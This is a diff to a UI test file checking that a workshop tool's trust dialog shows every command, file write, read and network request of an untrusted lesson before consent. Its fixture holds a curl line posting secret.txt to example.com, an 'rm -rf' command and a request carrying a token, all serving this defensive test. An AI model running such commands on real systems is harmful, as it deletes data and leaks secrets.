@@ -155,18 +155,49 @@ describe('questions from the workshop', () => {
           kind: 'trust',
           file: '/tmp/x.md',
           title: 'Someone else’s lesson',
-          commands: ['rm -rf ./build', 'curl example.com'],
+          plan: {
+            commands: ['rm -rf ./build', 'curl example.com \\\n  --data @secret.txt'],
+            writes: ['notes.txt'],
+            reads: ['/tmp/shown.yaml'],
+            requests: [{ method: 'GET', url: 'http://127.0.0.1:9/x', secrets: ['SANDBOX_TOKEN'] }],
+          },
         },
       }),
     );
     const { lastFrame, stdin } = await start(workshop);
     expect(lastFrame()).toContain('“Someone else’s lesson” does not ship with kong-workshop.');
     expect(lastFrame()).toContain('$ rm -rf ./build');
+    // Every line of every command, and everything else it would do.
+    expect(lastFrame()).toContain('--data @secret.txt');
+    expect(lastFrame()).toContain('writes notes.txt');
+    expect(lastFrame()).toContain('sends GET http://127.0.0.1:9/x with SANDBOX_TOKEN: not the target');
+    expect(lastFrame()).toContain('shows /tmp/shown.yaml');
     stdin.write(KEY.enter);
     await settle();
     expect(workshop.calls.filter((c) => c.startsWith('trust'))).toEqual([]);
     stdin.write('y');
     await vi.waitFor(() => expect(workshop.calls).toContain('trust true'));
+  });
+
+  it('scrolls a plan longer than the screen instead of cutting it off', async () => {
+    const commands = Array.from({ length: 60 }, (_, i) => `echo line-${i}`);
+    const workshop = new FakeWorkshop(
+      homeState({
+        dialog: {
+          kind: 'trust',
+          file: '/tmp/x.md',
+          title: 'Long',
+          plan: { commands, writes: [], reads: [], requests: [] },
+        },
+      }),
+    );
+    const { lastFrame, stdin } = await start(workshop);
+    expect(lastFrame()).toContain('$ echo line-0');
+    expect(lastFrame()).not.toContain('$ echo line-59');
+    expect(lastFrame()).toMatch(/scroll \(0 above, \d+ below\)/);
+    for (let i = 0; i < 60; i++) stdin.write(KEY.down);
+    await vi.waitFor(() => expect(lastFrame()).toContain('$ echo line-59'));
+    expect(lastFrame()).toMatch(/scroll \(\d+ above, 0 below\)/);
   });
 
   it('offers to re-check on resume; Enter accepts, n declines', async () => {
